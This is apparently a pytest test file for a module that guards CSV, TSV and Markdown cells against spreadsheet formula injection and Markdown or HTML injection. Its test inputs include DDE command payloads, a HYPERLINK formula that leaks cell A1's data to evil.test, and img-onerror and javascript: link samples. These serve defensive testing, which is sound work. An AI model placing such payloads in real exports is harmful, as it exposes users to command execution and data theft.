"""Cells of CSV, TSV and Markdown."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fsctl.terminal.delimited import (
    csv_cell,
    guard,
    markdown_cell,
    runs_as_formula,
    tsv_cell,
    unguard,
)

CELLS = st.text(
    st.one_of(
        st.sampled_from("'=+-@\t\r\n ,;\"|\\<>&_*`[]~\uff1d\ufeff\u200b19.eE()/a"),
        st.characters(codec="utf-8"),
    )
)


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        '=HYPERLINK("https://evil.test?"&A1,"click")',
        "  =1+1",
        "\xa0=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\t=1+1",
        "\tanything",
        "\ranything",
        "\nanything",
        "\uff1d1+1",
        "\uff0b1",
        "\uff20SUM(A1)",
        "\u2212x",
        "+49 30 x",
        "-1-2+A1",
        "-",
        "+",
        "@ada",
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_gets_one_quote(cell: str) -> None:
    assert guard(cell) == "'" + cell
    assert unguard(guard(cell)) == cell


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "Ada",
        "ada@example.com",
        "a=b",
        "-5",
        "-12.5",
        "-1,234.50",
        "+1e10",
        "-.5",
        "-5e-3",
        "+49 (30) 1234-567",
        "+1-800-555-0199",
        "+4930123",
        "2024-05-01T12:00:00Z",
        "  spaced",
        "日本",
    ],
)
def test_texts_numbers_and_phone_numbers_are_left_alone(cell: str) -> None:
    assert guard(cell) == cell
    assert unguard(cell) == cell


@pytest.mark.parametrize(
    ("cell", "guarded"), [("'quoted", "''quoted"), ("'", "''"), ("'=x", "''=x"), ("''", "'''")]
)
def test_a_leading_quote_of_its_own_is_doubled(cell: str, guarded: str) -> None:
    assert guard(cell) == guarded
    assert unguard(guarded) == cell


@given(CELLS)
def test_import_gives_back_what_export_was_given(cell: str) -> None:
    assert unguard(guard(cell)) == cell


@given(CELLS)
def test_no_guarded_cell_runs(cell: str) -> None:
    assert not runs_as_formula(guard(cell))


@given(CELLS)
def test_a_guarded_cell_is_at_most_one_quote_longer(cell: str) -> None:
    assert guard(cell) in (cell, "'" + cell)


def test_a_foreign_file_s_leading_quote_stays() -> None:
    assert unguard("'tis the season") == "'tis the season"


@given(st.lists(CELLS, min_size=2))
def test_python_s_own_reader_gets_the_csv_cells_back(cells: list[str]) -> None:
    line = ",".join(map(csv_cell, cells)) + "\n"
    assert list(csv.reader(io.StringIO(line, newline=""), strict=True)) == [cells]


def test_a_cell_is_quoted_where_another_country_s_spreadsheet_would_cut_it() -> None:
    assert csv_cell("a;=1+1") == '"a;=1+1"'
    assert csv_cell("a\tb") == '"a\tb"'


POSTGRES = {"b": "\b", "f": "\f", "n": "\n", "r": "\r", "t": "\t", "v": "\v", "\\": "\\"}


@given(st.lists(CELLS, min_size=1))
def test_a_tsv_line_is_read_back_as_postgresql_copy_reads_it(cells: list[str]) -> None:
    line = "\t".join(map(tsv_cell, cells))
    assert not re.search("[\n\r\x0b\x0c\b]", line)
    assert [
        re.sub(r"\\(.)", lambda match: POSTGRES[match[1]], cell) for cell in line.split("\t")
    ] == cells


@pytest.mark.parametrize(
    ("cell", "escaped"),
    [
        ("a|b", r"a\|b"),
        ("a\\|b", r"a\\\|b"),
        ("<img src=x onerror=y>", "&lt;img src=x onerror=y&gt;"),
        ("&lt;", "&amp;lt;"),
        ("one\r\ntwo\nthree", "one<br>two<br>three"),
        ("[x](javascript:alert)", r"\[x\](javascript:alert)"),
        ("![x](https://evil.test/p.png)", r"!\[x\](https://evil.test/p.png)"),
        ("`code` *b* ~~s~~", r"\`code\` \*b\* \~\~s\~\~"),
        ("_x_ snake_case", r"\_x\_ snake_case"),
    ],
)
def test_markdown_shows_the_text_and_marks_nothing(cell: str, escaped: str) -> None:
    assert markdown_cell(cell) == escaped


@given(CELLS)
def test_no_markdown_cell_ends_its_cell_or_line_or_holds_html(cell: str) -> None:
    escaped = markdown_cell(cell)
    assert not re.search(r"(?<!\\)(?:\\\\)*\|", escaped)
    assert len(escaped.splitlines()) <= 1 or not re.search("[\r\n]", escaped)
    assert "<" not in escaped.replace("<br>", "")


@pytest.mark.parametrize("unit", [" ", "-1", "+1 ", "(", "1.", "'", "\\|", "_", "=", "\u200b"])
def test_a_long_cell_takes_linear_time(unit: str) -> None:
    """A quadratic pattern would need many minutes for this; the test only has to end."""
    cell = unit * 300_000
    for text in (cell, "+" + cell, "-" + cell + "x"):
        assert unguard(guard(text)) == text
        assert markdown_cell(text) or not text.strip()
        assert csv_cell(text)
        assert tsv_cell(text)
